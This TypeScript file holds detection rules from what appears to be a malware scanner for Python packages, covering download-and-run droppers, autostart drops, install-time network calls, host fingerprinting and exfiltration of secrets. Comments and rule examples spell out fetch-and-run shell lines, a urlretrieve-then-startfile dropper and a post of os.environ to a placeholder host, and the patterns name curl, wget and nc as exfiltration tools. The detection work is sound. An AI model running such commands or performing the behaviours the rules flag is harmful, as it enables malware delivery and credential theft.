import { analyzeCommand } from '../../shell/command.js';
import { endpointFinding, matchEndpoints, SUSPICIOUS_ENDPOINT } from '../../text/iocs.js';
import type { PyRule } from '../engine.js';
import { NETWORK_FETCH, RECON_SOURCES } from '../evaluate.js';
import type { Node } from '../parser.js';
import { PyBytes, textOf } from '../values.js';
import { commandOf, DOWNLOAD_TO_DISK, NETWORK_CALLS, PROCESS_CALLS, preview, py } from './helpers.js';

/**
 * A shell script (written out from a constant) that downloads and runs what it fetched, read by
 * the shell analyzer: `curl URL -o f; chmod +x f; ./f`, `wget -qO- URL | sh`.
 */
function fetchesAndRuns(script: string): boolean {
  return analyzeCommand(script.replace(/\r?\n/g, ';')).some(
    (t) => t.id === 'download-execute' || t.id === 'download-pipe-shell',
  );
}

const EXEC_EXT = /\.(exe|bat|cmd|vbs|vbe|ps1|scr|msi|hta|dll|sh|bin|jar|pyw?|apk|elf)\b/i;

const GENERIC = new Set([
  'f',
  'r',
  'fp',
  'fh',
  'file',
  'out',
  'resp',
  'response',
  'res',
  'req',
  'data',
  'content',
  'open',
  'os',
  'path',
  'requests',
  'urllib',
  'request',
  'self',
  'url',
  'write',
  'read',
  'wb',
  'w',
  'b',
  'get',
  'text',
  'join',
  'getenv',
  'environ',
  'sys',
  'str',
  'x',
]);

/** Names and strings that identify a download's destination (to link it to what is run later). */
function destinationTokens(ctx: Parameters<PyRule['create']>[0], node: Node): Set<string> {
  const tokens = new Set<string>();
  const add = (n: Node | null | undefined) => {
    if (!n) return;
    const ids = n.type === 'identifier' ? [n] : n.descendantsOfType('identifier');
    for (const id of ids) {
      if (!id || GENERIC.has(id.text) || id.text.length <= 1) continue;
      // A parameter names different files in different functions: link it within its function only.
      if (ctx.lookup(id.text, id.startIndex, id)?.kind === 'param')
        tokens.add(`@${ctx.scopeOf(id)}:${id.text}`);
      else tokens.add(id.text);
    }
    const v = ctx.evaluateString(n);
    if (v && v.length >= 4 && !/^https?:/.test(v)) tokens.add(v.replace(/^%\w+%[\\/]*/, ''));
  };
  const { positional } = ctx.args(node);
  add(positional[1]);
  // `path, _ = urlretrieve(...)` / `p = download(...)`
  for (let p = node.parent; p && p.type !== 'module' && p.type !== 'block'; p = p.parent) {
    if (p.type === 'assignment') add(p.childForFieldName('left'));
  }
  // `with open(dest, 'wb') as f: f.write(r.content)` / `open(dest, 'wb').write(...)`
  for (let p = node.parent; p && p.type !== 'module' && p.type !== 'function_definition'; p = p.parent) {
    if (p.type === 'with_statement') {
      for (const item of p.descendantsOfType('with_item')) {
        const call =
          item?.namedChildren[0]?.type === 'as_pattern'
            ? item.namedChildren[0].namedChildren[0]
            : item?.namedChildren[0];
        if (call?.type === 'call') {
          const dest = ctx.args(call).positional[0];
          add(dest);
          // `with open(path, 'wb') as f` inside a function: a generic `path` still names the file there.
          if (dest?.type === 'identifier' && GENERIC.has(dest.text))
            tokens.add(`@${ctx.scopeOf(node)}:${dest.text}`);
        }
        // `with NamedTemporaryFile(delete=False) as tmp`: later `tmp.name` is the file.
        const alias =
          item?.namedChildren[0]?.type === 'as_pattern' ? item.namedChildren[0].namedChildren[1] : undefined;
        const aliasId = alias?.type === 'as_pattern_target' ? alias.namedChildren[0] : alias;
        if (aliasId?.type === 'identifier' && !GENERIC.has(aliasId.text) && aliasId.text.length > 1)
          tokens.add(aliasId.text);
      }
      break;
    }
  }
  const fn = node.childForFieldName('function');
  const recv = fn?.type === 'attribute' ? fn.childForFieldName('object') : undefined;
  // `d = open(dest, 'wb')` ... `d.write(data)`: the handle's binding names the file.
  let handle: Node | null | undefined = recv;
  if (handle?.type === 'identifier') {
    const b = ctx.lookup(handle.text, handle.startIndex, handle);
    handle =
      b?.kind === 'assign' &&
      b.value?.type === 'call' &&
      /^(open|io\.open|codecs\.open)$/.test(ctx.callee(b.value) ?? '')
        ? b.value
        : undefined;
  }
  if (handle?.type === 'call') {
    const dest = ctx.args(handle).positional[0];
    add(dest);
    if (dest?.type === 'identifier' && GENERIC.has(dest.text))
      tokens.add(`@${ctx.scopeOf(node)}:${dest.text}`);
  }
  return tokens;
}

export const downloadAndRun: PyRule = {
  meta: {
    ...py,
    id: 'PY-005',
    name: 'download-and-run',
    category: 'dropper',
    severity: 'critical',
    confidence: 'high',
    description:
      'Code downloads a file to disk (urlretrieve, writing a response) and then runs or opens that file (also when a helper writes it and returns its path to the caller that runs it), or drops it into an autostart folder (Windows Startup, XDG autostart, launch agents) where it runs at the next logon.',
    rationale:
      'Download-then-execute is the classic dropper: the package carries no payload, so it passes review, and fetches an executable or script when installed or imported.',
    falsePositives:
      'Installers of prebuilt tools (downloading a binary and running it to check its version).',
    example: "urllib.request.urlretrieve('http://192.0.2.1/a.exe', p); os.startfile(p)",
    references: ['https://attack.mitre.org/techniques/T1105/'],
  },
  create(ctx) {
    const downloads: Array<{
      node: Node;
      tokens: Set<string>;
      target?: string;
      kind: 'remote' | 'decoded' | 'code' | 'binary' | 'script';
    }> = [];
    const runs: Node[] = [];
    const assigns: Array<{ name: string; value: Node; scope: number }> = [];
    /** URLs fetched in this file that name an executable (`.../payload.exe`). */
    const exeUrls: string[] = [];
    const noteDownload = (
      node: Node,
      kind: 'remote' | 'decoded' | 'code' | 'binary' | 'script' = 'remote',
    ) => {
      ctx.capability(kind === 'remote' ? 'download' : 'drop', node);
      const { positional } = ctx.args(node);
      const tokens = destinationTokens(ctx, node);
      for (const t of [...tokens]) {
        const base = t.split(/[\\/]/).pop();
        if (base && base !== t && base.length >= 5) tokens.add(base);
      }
      const target = ctx.evaluateString(positional[1]) ?? [...tokens].find((t) => /[\\/.]/.test(t));
      downloads.push({ node, tokens, target, kind });
    };
    return {
      assignment(node: Node) {
        const left = node.childForFieldName('left');
        const right = node.childForFieldName('right');
        if (left?.type === 'identifier' && right && right.text.length < 500)
          assigns.push({ name: left.text, value: right, scope: ctx.scopeOf(node) });
      },
      call(node: Node) {
        const name = ctx.callee(node);
        if (name && (NETWORK_FETCH.has(name) || DOWNLOAD_TO_DISK.has(name))) {
          const url = ctx.evaluateString(ctx.args(node).positional[0]);
          if (url && /^https?:\/\/[^?#]+\.(exe|scr|msi|bat|cmd|ps1|vbs|hta|dll|elf)(?:[?#]|$)/i.test(url))
            exeUrls.push(url);
        }
        if (name && DOWNLOAD_TO_DISK.has(name)) return noteDownload(node);
        if (name === 'os.chmod' || name === 'pathlib.Path.chmod') {
          // Making a file executable is the step before running it.
          const mode = ctx.args(node).positional[1];
          const v = ctx.evaluate(mode);
          if ((typeof v === 'number' && (v & 0o111) !== 0) || /S_I[WR]?X|S_IEXEC/.test(mode?.text ?? ''))
            runs.push(node);
        }
        if (name && PROCESS_CALLS.has(name)) {
          // `curl URL -o FILE` / `wget -O FILE URL` run from Python: a download to that file.
          const command = commandOf(ctx, node);
          const out =
            command &&
            /\b(?:curl|wget)\b.*?\s(?:-o|-O|--output(?:-document)?)[\s=]+(["']?)([^\s"']+)\1/.exec(command);
          if (out?.[2]) {
            ctx.capability('download', node);
            const tokens = new Set<string>([out[2]]);
            const base = out[2].split(/[\\/]/).pop();
            if (base && base.length >= 5) tokens.add(base);
            downloads.push({ node, tokens, target: out[2], kind: 'remote' });
            return;
          }
        }
        if (
          name &&
          (PROCESS_CALLS.has(name) ||
            name === 'ctypes.CDLL' ||
            name === 'ctypes.cdll.LoadLibrary' ||
            name === 'ctypes.WinDLL' ||
            name === 'runpy.run_path' ||
            name === 'importlib.import_module' ||
            name === '__import__' ||
            name === 'exec')
        )
          runs.push(node);
        const fn = node.childForFieldName('function');
        if (
          fn?.type === 'attribute' &&
          /^(write|write_bytes|write_text|writelines)$/.test(fn.childForFieldName('attribute')?.text ?? '')
        ) {
          const arg = ctx.args(node).positional[0];
          const labels = arg ? ctx.taint(arg) : undefined;
          const literal = arg && /^b?["']|^b'''|^b"""/.test(arg.text) ? ctx.evaluate(arg) : undefined;
          if (
            literal instanceof PyBytes &&
            /^(?:\x7fELF|MZ)/.test(literal.data.subarray(0, 4).toString('latin1'))
          )
            // An executable carried inside the source as a bytes literal, written out.
            noteDownload(node, 'binary');
          else if (labels?.has('remote')) noteDownload(node);
          else if (arg && !labels?.has('decoded')) {
            // Code written to a file from a constant (a second-stage script dropped and run).
            const text = textOf(ctx.evaluate(arg));
            if (
              text &&
              text.length > 20 &&
              /\b(import|exec|eval|urlopen|subprocess|os\.system)\b/.test(text.slice(0, 4000))
            ) {
              noteDownload(node, 'code');
              if (ctx.reanalyze) ctx.pending.push(ctx.reanalyze(text, node));
            } else if (text && text.length > 20 && fetchesAndRuns(text.slice(0, 4000))) {
              // A shell script that fetches a URL to a file (or into a shell) and makes it executable,
              // written out from a constant: the download happens when the script is run.
              noteDownload(node, 'script');
            }
          } else if (arg && labels?.has('decoded')) {
            // Dropping decoded content to disk: analyse what is dropped when it is code.
            const text = textOf(ctx.evaluate(arg));
            noteDownload(node, 'decoded');
            if (text && ctx.reanalyze && /\b(import|def|exec|eval|print)\b/.test(text.slice(0, 4000)))
              ctx.pending.push(ctx.reanalyze(text, node));
          }
        }
        if (name === 'shutil.copyfileobj') {
          const arg = ctx.args(node).positional[0];
          if (arg && ctx.taint(arg).has('remote')) noteDownload(node);
        }
      },
      'module:exit'() {
        // A process started inside a local function runs where that function is called.
        for (const r of [...runs]) {
          for (let p = r.parent; p; p = p.parent) {
            if (p.type !== 'function_definition') continue;
            const fname = p.childForFieldName('name')?.text;
            for (const site of (fname && ctx.callSites.get(fname)) || []) runs.push(site);
            break;
          }
        }
        for (const d of downloads) {
          // A generated .py file is what code generators write; it needs a run to be news.
          // A .py written under an unknown base (a build dir) is what code generators do; one written
          // to a home, temp, system or startup path is a dropped script.
          let exe =
            !!d.target &&
            EXEC_EXT.test(d.target) &&
            (!/\.pyw?$/i.test(d.target) ||
              (/^(?:~|\/|%\w+%|[a-z]:)/i.test(d.target) &&
                !/(?:^|[\\/])\.pyw?$|\/\/|\*/i.test(d.target) &&
                !/(?:^|[\\/])__init__\.py$/.test(d.target)));
          if (d.kind === 'binary') exe = true;
          if (!exe && d.kind === 'remote' && exeUrls.length > 0) {
            exe = true;
            d.target ??= exeUrls[0];
          }
          // Names the file gets later: `exe_path = tmp.name`, `target = os.path.join(dir, name)`.
          const dScope = ctx.scopeOf(d.node);
          for (let round = 0; round < 3; round++) {
            for (const a of assigns) {
              // Only later names in the same function: `exe_path = tmp.name` after the write.
              if (d.tokens.has(a.name) || a.scope !== dScope || a.value.startIndex < d.node.startIndex)
                continue;
              const mentions = [...d.tokens].some((t) =>
                /^\w+$/.test(t) ? new RegExp(`\\b${t}\\b`).test(a.value.text) : false,
              );
              if (!mentions) continue;
              d.tokens.add(GENERIC.has(a.name) ? `@${dScope}:${a.name}` : a.name);
            }
          }
          // `def fetch(): ...; f.write(code); return tgt` then `path = fetch()` ... `Popen([py, path])`:
          // a helper that writes the download and returns where it put it names the file for its callers.
          for (let p = d.node.parent; p; p = p.parent) {
            if (p.type !== 'function_definition') continue;
            const fname = p.childForFieldName('name')?.text;
            const returned = p
              .descendantsOfType('return_statement')
              .some((r) =>
                [...d.tokens].some((t) =>
                  /^\w+$/.test(t) ? new RegExp(`\\b${t}\\b`).test(r?.text ?? '') : false,
                ),
              );
            if (fname && returned)
              for (const a of assigns)
                if (a.value.type === 'call' && a.value.childForFieldName('function')?.text === fname)
                  d.tokens.add(GENERIC.has(a.name) ? `@${a.scope}:${a.name}` : a.name);
            break;
          }
          const linked = runs.find((r) => {
            if (r.startIndex < d.node.startIndex && r.startPosition.row < d.node.startPosition.row)
              return false;
            const text = r.text;
            const rScope = ctx.scopeOf(r);
            for (const t of d.tokens) {
              const scoped = /^@(-?\d+):(\w+)$/.exec(t);
              if (scoped) {
                if (
                  Number(scoped[1]) === rScope &&
                  new RegExp(`\\b${scoped[2]}\\b`).test(
                    ctx
                      .args(r)
                      .positional.map((a) => a.text)
                      .join(' '),
                  )
                )
                  return true;
                continue;
              }
              if (/^\w+$/.test(t) ? new RegExp(`\\b${t}\\b`).test(text) : text.includes(t)) return true;
              const cmd = ctx.evaluateString(ctx.args(r).positional[0]);
              if (cmd && t.length >= 4 && cmd.includes(t)) return true;
              // `cd /tmp && chmod +x node && ./node`: the file's base name as a word of the command.
              const base = t.split(/[\\/]/).pop();
              if (cmd && base && base !== t && base.length >= 3) {
                const esc = base.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
                if (new RegExp(`(?:\\.\\/|chmod\\s+(?:[-+\\w]+\\s+)+)${esc}(?=$|[\\s"';&|])`).test(cmd))
                  return true;
              }
            }
            return false;
          });
          const autostart = !linked && d.kind !== 'code' && autostartDestination(ctx, d.tokens, d.target);
          if (!linked && !exe && !autostart) continue;
          const what =
            d.kind === 'remote'
              ? 'Downloads a file'
              : d.kind === 'code'
                ? 'Writes a code file'
                : d.kind === 'script'
                  ? 'Writes a shell script that downloads from a URL'
                  : d.kind === 'binary'
                    ? 'Writes an executable embedded in the source'
                    : 'Writes decoded (hidden) content to a file';
          ctx.report({
            node: d.node,
            severity: linked || autostart ? 'critical' : 'high',
            message: linked
              ? `${what}${d.target ? ` (${preview(d.target, 60)})` : ''} and runs it (line ${linked.startPosition.row + 1}).`
              : autostart
                ? `${what} into an autostart location (${preview(autostart, 60)}): it runs at every logon.`
                : `${what}: an executable (${preview(d.target ?? '', 60)}).`,
            evidence: {
              target: d.target,
              runLine: linked ? linked.startPosition.row + 1 : undefined,
              source: d.kind,
            },
          });
          return;
        }
      },
    };
  },
};

/** Folders whose files the OS runs at logon (Windows Startup, XDG autostart, launch agents). */
const AUTOSTART_DIR =
  /Start Menu[\\/]+Programs[\\/]+Startup|[\\/]Startup[\\/]*$|\.config[\\/]+autostart|Library[\\/]+LaunchAgents/i;

/**
 * The autostart folder a written file lands in, when its destination (folded, or the assignments
 * behind the names that build it: `folder = expanduser('~\\...\\Startup')`, `path = join(folder, n)`)
 * names one. A file dropped there runs at the next logon without any visible run call.
 */
function autostartDestination(
  ctx: Parameters<PyRule['create']>[0],
  tokens: Set<string>,
  target: string | undefined,
): string | undefined {
  const texts: string[] = target ? [target] : [];
  const seen = new Set<string>();
  let names = [...tokens].filter((t) => /^\w+$/.test(t));
  for (let round = 0; round < 3 && names.length > 0; round++) {
    const next: string[] = [];
    for (const n of names) {
      if (seen.has(n)) continue;
      seen.add(n);
      for (const b of ctx.bindings.get(n) ?? []) {
        if (b.kind !== 'assign' || !b.value || b.value.text.length > 400) continue;
        texts.push(ctx.evaluateString(b.value) ?? b.value.text);
        for (const id of b.value.descendantsOfType('identifier')) if (id) next.push(id.text);
      }
    }
    names = next;
  }
  return texts.find((t) => AUTOSTART_DIR.test(t.replace(/\\\\/g, '\\')));
}

export const networkAtLoad: PyRule = {
  meta: {
    ...py,
    id: 'PY-006',
    name: 'python-network-access',
    category: 'network',
    severity: 'low',
    confidence: 'high',
    description:
      'Code that runs at install, import or interpreter start talks to the network (requests, urllib, httpx, sockets, DNS, SMTP...). When the address is decoded at run time (base64, hex...) the finding is high and counts as evasion.',
    rationale:
      'Installing or importing a library should not contact servers; doing so is how dependency-confusion beacons and droppers phone home. Reported only for code that runs without being called.',
    falsePositives: 'setup.py scripts that download build dependencies or data files.',
    example: "requests.get('https://example.invalid/ping')  # at module top level",
    references: ['https://attack.mitre.org/techniques/T1071/'],
  },
  create(ctx) {
    return {
      call(node: Node) {
        const name = ctx.callee(node);
        if (!name || !NETWORK_CALLS.has(name)) return;
        ctx.capability('network', node);
        if (name === 'socket.socket' || name === 'socket.create_connection') ctx.capability('socket', node);
        const { positional, keywords } = ctx.args(node);
        const dest = keywords.get('url') ?? keywords.get('host') ?? positional[0];
        const url = ctx.evaluateString(dest);
        // `gethostbyname(b64decode('...'))` at install: the address is hidden from the reader.
        const hidden = !!dest && ctx.taint(dest).has('decoded');
        ctx.report({
          node,
          weak: true,
          severity: hidden ? 'high' : undefined,
          category: hidden ? 'evasion' : undefined,
          message: `Contacts the network with ${name}${url && /^[a-z]+:\/\//i.test(url) ? ` (${preview(url, 80)})` : ''}${hidden ? ', at an address decoded at run time (hidden from the reader)' : ''}.`,
          evidence: { callee: name, url, hiddenDestination: hidden || undefined },
        });
      },
    };
  },
};

const FINGERPRINT = new Set(
  [...RECON_SOURCES].filter((n) => !/getcwd|platform\.platform|getuid|gethostbyname/.test(n)),
);

export const hostFingerprint: PyRule = {
  meta: {
    ...py,
    id: 'PY-007',
    name: 'host-fingerprint',
    category: 'recon',
    severity: 'low',
    confidence: 'medium',
    description:
      'Code that runs at install/import collects host identity (hostname, user name, MAC address, OS release).',
    rationale:
      'Dependency-confusion and recon payloads send who/where they were installed to their author; combined with network access at install time it is a beacon.',
    falsePositives: 'Telemetry-free tools printing system information; logging setup.',
    example: 'socket.gethostname()',
    references: ['https://medium.com/@alex.birsan/dependency-confusion-4a5d60fec610'],
  },
  create(ctx) {
    return {
      call(node: Node) {
        const name = ctx.callee(node);
        if (!name || !FINGERPRINT.has(name)) return;
        ctx.capability('recon', node);
        ctx.report({
          node,
          weak: true,
          message: `Reads host identity with ${name}().`,
          evidence: { callee: name },
        });
      },
    };
  },
};

const SEND_METHODS =
  /^(send|sendall|sendto|post|put|request|urlopen|execute|send_message|sendMessage|send_document|sendDocument|storbinary|sendmail|connect)$/;

export const dataExfiltration: PyRule = {
  meta: {
    ...py,
    id: 'PY-008',
    name: 'data-exfiltration',
    category: 'exfiltration',
    severity: 'high',
    confidence: 'high',
    description:
      "Secrets (environment, credential files, wallet keys, the calling program's source read through its stack frames) or host fingerprints flow into a network request, socket send, DNS lookup or webhook, also through local wrapper functions; host data sent to an address decoded at run time is critical.",
    rationale:
      'Data flow from sensitive sources to the network is what stealers and dependency-confusion beacons do; the taint layer follows values through variables, f-strings, dicts and encoders.',
    falsePositives:
      'Telemetry that reports the hostname; tools forwarding environment to remote build services.',
    example: "requests.post('https://x.invalid', data={'h': socket.gethostname(), 'env': dict(os.environ)})",
    references: ['https://attack.mitre.org/techniques/T1041/'],
  },
  create(ctx) {
    return {
      call(node: Node) {
        const name = ctx.callee(node);
        const fn = node.childForFieldName('function');
        const method = fn?.type === 'attribute' ? (fn.childForFieldName('attribute')?.text ?? '') : '';
        const isSink =
          (name !== undefined &&
            NETWORK_CALLS.has(name) &&
            name !== 'socket.socket' &&
            name !== 'socket.create_connection') ||
          (fn?.type === 'attribute' &&
            SEND_METHODS.test(method) &&
            (ctx.taint(fn.childForFieldName('object')).has('conn') ||
              /^(requests|httpx|urllib|socket|smtplib|ftplib|telebot|discord)/.test(name ?? '')));
        // `subprocess.run(['curl', url + data])`: a network client run as a process is a sink too.
        const viaProcess =
          !isSink &&
          name !== undefined &&
          PROCESS_CALLS.has(name) &&
          /^(?:\S*\/)?(?:curl|wget|nc|ncat|nslookup|dig|host|ping)(?:\.exe)?(?:\s|$)/.test(
            ctx.evaluator.commandText(ctx.args(node).positional[0]) ?? '',
          );
        if (!isSink && !viaProcess) return;
        if (
          name &&
          /^(socket\.(gethostbyname(_ex)?|getaddrinfo|gethostbyaddr|getfqdn)|dns\.resolver\.(resolve|query))$/.test(
            name,
          )
        ) {
          // Resolving the machine's own name (`gethostbyname(gethostname())`) is local, not a beacon;
          // a fingerprint spliced into a domain (`f'{user}.x.example'`) is.
          let a: Node | undefined = ctx.args(node).positional[0];
          for (let i = 0; i < 3 && a?.type === 'identifier'; i++) {
            const b = ctx.evaluator.binding(a);
            a = b?.kind === 'assign' ? b.value : undefined;
          }
          if (!a || !/^(string|binary_operator|concatenated_string|call)$/.test(a.type)) return;
          if (a.type === 'call' && !/\.(format|join)$/.test(a.childForFieldName('function')?.text ?? ''))
            return;
        }
        const argList = node.childForFieldName('arguments');
        const labels = ctx.taint(argList);
        const secret = labels.has('secret');
        const recon = labels.has('recon');
        if (!secret && !recon) return;
        const hidden = !viaProcess && hiddenDestination(ctx, node);
        ctx.report({
          node,
          severity: secret || hidden ? 'critical' : 'high',
          message: secret
            ? `Sends secrets (${labels.has('env') ? 'the environment' : labels.has('source') ? "the calling program's source code, read through its stack frames" : 'credentials'}) over the network with ${name ?? method}.`
            : `Sends host fingerprint data (hostname/user/...) over the network with ${name ?? method}${viaProcess ? ` (${preview(ctx.evaluator.commandText(ctx.args(node).positional[0]) ?? '', 40)})` : ''}${hidden ? ', to an address that is decoded at run time' : ''}.`,
          evidence: { sink: name ?? method, sources: [...labels], hiddenDestination: hidden || undefined },
        });
      },
    };
  },
};

/**
 * Whether a send's destination is decoded at run time: the URL argument of `requests.post(u, ...)`,
 * or the host given to the connection a `conn.request(...)` / `sock.send(...)` goes through
 * (`HTTPSConnection(b64decode(...))`, `s.connect((decode(x), port))`). Nobody hides the address
 * they report a hostname to unless the report is the point.
 */
function hiddenDestination(ctx: Parameters<PyRule['create']>[0], call: Node): boolean {
  const decoded = (n: Node | null | undefined) => !!n && ctx.taint(n).has('decoded');
  const fn = call.childForFieldName('function');
  const recv = fn?.type === 'attribute' ? fn.childForFieldName('object') : undefined;
  if (recv?.type === 'identifier') {
    const b = ctx.lookup(recv.text, recv.startIndex, recv);
    if (b?.kind === 'assign' && b.value?.type === 'call' && ctx.taint(b.value).has('conn')) {
      if (decoded(b.value.childForFieldName('arguments'))) return true;
      // `s = socket.socket(); s.connect((host, port))`: the host is given to connect.
      const scope = ctx.scopeOf(call);
      for (const site of ctx.callSites.get('connect') ?? []) {
        const f = site.childForFieldName('function');
        if (
          f?.type === 'attribute' &&
          f.childForFieldName('object')?.text === recv.text &&
          ctx.scopeOf(site) === scope &&
          decoded(site.childForFieldName('arguments'))
        )
          return true;
      }
    }
    return false;
  }
  const { positional, keywords } = ctx.args(call);
  return decoded(keywords.get('url') ?? positional[0]);
}

/** NET-001 for Python: endpoints in folded strings (including decoded ones). */
export const pythonEndpoints: PyRule = {
  meta: SUSPICIOUS_ENDPOINT,
  create(ctx) {
    const seen = new Set<string>();
    const check = (node: Node, text: string | undefined) => {
      if (!text || text.length < 7 || text.length > 200_000) return;
      for (const m of matchEndpoints(text)) {
        const key = `${m.kind}|${m.indicator}`;
        if (seen.has(key)) continue;
        seen.add(key);
        const f = endpointFinding(m, { file: ctx.path, context: ctx.fileContext });
        ctx.reportFinding(f, node, m.kind === 'geo-ip' || m.kind === 'raw-ip' || m.kind === 'tunnel');
      }
    };
    return {
      string(node: Node) {
        if (node.parent?.type === 'concatenated_string') return;
        check(node, textOf(ctx.evaluate(node)));
      },
      concatenated_string(node: Node) {
        check(node, textOf(ctx.evaluate(node)));
      },
      call(node: Node) {
        const fn = node.childForFieldName('function');
        if (!fn) return;
        // Folded constructions: ''.join(chr(...)), b64decode('...'), 'x'.format(...), reversed strings.
        if (!/join|decode|decompress|fromhex|unhexlify|format|replace|chr|bytes/.test(fn.text)) return;
        check(node, textOf(ctx.evaluate(node)));
      },
      binary_operator(node: Node) {
        if (node.parent?.type === 'binary_operator') return;
        if (!node.text.includes('"') && !node.text.includes("'")) return;
        check(node, textOf(ctx.evaluate(node)));
      },
    };
  },
};

export { PROCESS_CALLS };
